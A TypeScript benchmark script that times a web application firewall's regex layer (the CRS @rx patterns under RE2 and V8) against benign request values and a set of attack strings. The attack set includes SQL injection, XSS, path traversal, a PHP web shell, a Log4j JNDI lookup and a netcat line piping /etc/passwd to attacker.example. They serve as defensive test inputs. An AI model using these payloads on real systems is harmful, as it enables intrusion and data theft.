/**
 * Regex layer benchmark (no assertions): the 318 CRS @rx patterns against typical benign
 * request values and attack values, the way the engine calls them (one value against every
 * pattern in turn).
 *
 *   npx tsc -p tsconfig.json && node dist/bench/regex.bench.js [seconds-per-case]
 *
 * Variants:
 *  - re2 string:   RE2 on the translated pattern, JS string subject (what a plain RE2 port does)
 *  - re2 buffer:   the layer without prefilter: RE2 on a UTF-8 Buffer shared by all patterns
 *  - layer:        the layer as the engine uses it (length check + prefilter + RE2 Buffer)
 *  - v8 irregexp:  the same translation run on V8's backtracking engine (not safe: ReDoS)
 * Figures: ns per (value, pattern) call, and the fraction of calls the prefilter skipped.
 * docs/regex.md records a run.
 */
import RE2 from 're2';
import { compileRegex, describeRegex } from '../src/engine/regex/index.js';
import type { CompiledRegex } from '../src/engine/regex/index.js';
import { toRe2Subject } from '../src/engine/regex/bytes.js';
import { loadCrsRxPatterns } from '../test/engine/regex/crs-patterns.js';

const SECONDS = Number(process.argv[2] ?? 1);

const BENIGN: Record<string, string> = {
  ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  query: 'page=2&sort=price_desc&category=shoes&size=42&color=dark%20blue&utm_source=newsletter',
  json: '{"id":12345,"name":"Jane Doe","email":"jane.doe@example.com","tags":["a","b"],"active":true}',
  word: 'checkout',
  number: '1699999999',
  path: '/api/v2/orders/98765/items',
  cookie: 'session=3f2a9c1e7b8d4f60a1b2c3d4e5f60718; theme=dark; lang=en-US',
  sentence: "Hello, I'd like to know when my order (#4521) will arrive - thanks!",
  utf8: 'Caf\xc3\xa9 cr\xc3\xa8me br\xc3\xbbl\xc3\xa9e \xe2\x80\x94 M\xc3\xbcnchen',
};

const ATTACK: Record<string, string> = {
  sqli: "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
  sqli_blind: '1 AND SLEEP(5)#',
  xss: '<script>alert(document.cookie)</script>',
  xss_attr: '"><img src=x onerror=alert(1)>',
  rce: '; cat /etc/passwd | nc attacker.example 4444',
  lfi: '../../../../etc/passwd',
  php: '<?php system($_GET["cmd"]); ?>',
  log4j: '${jndi:ldap://attacker.example/a}',
};

interface Variant {
  name: string;
  run: (value: string) => void;
}

/**
 * ns per value for one variant: the best of 5 trials, each timed in CPU time of this
 * process (other processes on a shared machine do not count).
 */
function measure(variant: Variant, values: string[]): number {
  for (let i = 0; i < 3; i++) for (const v of values) variant.run(v);
  let best = Infinity;
  for (let trial = 0; trial < 5; trial++) {
    let passes = 0;
    const wall = performance.now();
    const cpu = process.cpuUsage();
    while (performance.now() - wall < (SECONDS * 1000) / 5) {
      for (const v of values) variant.run(v);
      passes++;
    }
    const used = process.cpuUsage(cpu);
    best = Math.min(best, ((used.user + used.system) * 1000) / passes / values.length);
  }
  return best;
}

function main(): void {
  const patterns = loadCrsRxPatterns();
  const layer: CompiledRegex[] = patterns.map((p) => compileRegex(p.pattern));
  const noPrefilter: CompiledRegex[] = patterns.map((p) => compileRegex(p.pattern, { prefilter: false }));
  const v8: CompiledRegex[] = patterns.map((p) => compileRegex(p.pattern, { engine: 'v8-unsafe', prefilter: false }));
  const plain: RE2[] = patterns.map((p) => new RE2(describeRegex(p.pattern).re2Source!));
  const n = patterns.length;

  const variants: Variant[] = [
    {
      name: 're2 string',
      run: (value) => {
        const s = toRe2Subject(value);
        for (let i = 0; i < n; i++) plain[i]!.test(s);
      },
    },
    { name: 're2 buffer', run: (value) => noPrefilter.forEach((re) => re.test(value)) },
    { name: 'layer', run: (value) => layer.forEach((re) => re.test(value)) },
    { name: 'v8 irregexp', run: (value) => v8.forEach((re) => re.test(value)) },
  ];

  const rows: string[] = [];
  const report = (label: string, values: string[]): void => {
    let skipped = 0;
    let matched = 0;
    for (const v of values) {
      for (const re of layer) {
        if (!re.mayMatch(v)) skipped++;
        else if (re.test(v)) matched++;
      }
    }
    const calls = values.length * n;
    const cells = variants.map((variant) => measure(variant, values) / n);
    rows.push(
      `| ${label} | ${cells.map((ns) => ns.toFixed(0)).join(' | ')} | ${((100 * skipped) / calls).toFixed(1)} % | ${matched} |`,
    );
  };

  console.log(`${n} CRS @rx patterns, Node ${process.version}, ${SECONDS}s per cell`);
  for (const [name, value] of Object.entries(BENIGN)) report(`benign ${name} (${value.length} B)`, [value]);
  report('benign, all', Object.values(BENIGN));
  for (const [name, value] of Object.entries(ATTACK)) report(`attack ${name} (${value.length} B)`, [value]);
  report('attack, all', Object.values(ATTACK));
  const big = Object.values(BENIGN).join('&').repeat(40);
  report(`benign body (${big.length} B)`, [big]);

  console.log(`| values | ${variants.map((v) => `${v.name} ns/call`).join(' | ')} | prefilter skips | matches |`);
  console.log(`|---|${variants.map(() => '---:').join('|')}|---:|---:|`);
  for (const r of rows) console.log(r);

  const withPrefilter = patterns.filter((p) => describeRegex(p.pattern).prefilter !== null).length;
  console.log(`\npatterns with a literal prefilter: ${withPrefilter} / ${n}`);
  const t0 = performance.now();
  for (const p of patterns) compileRegex(p.pattern, { cache: false });
  console.log(`compile all ${n}: ${(performance.now() - t0).toFixed(0)} ms`);
}

main();
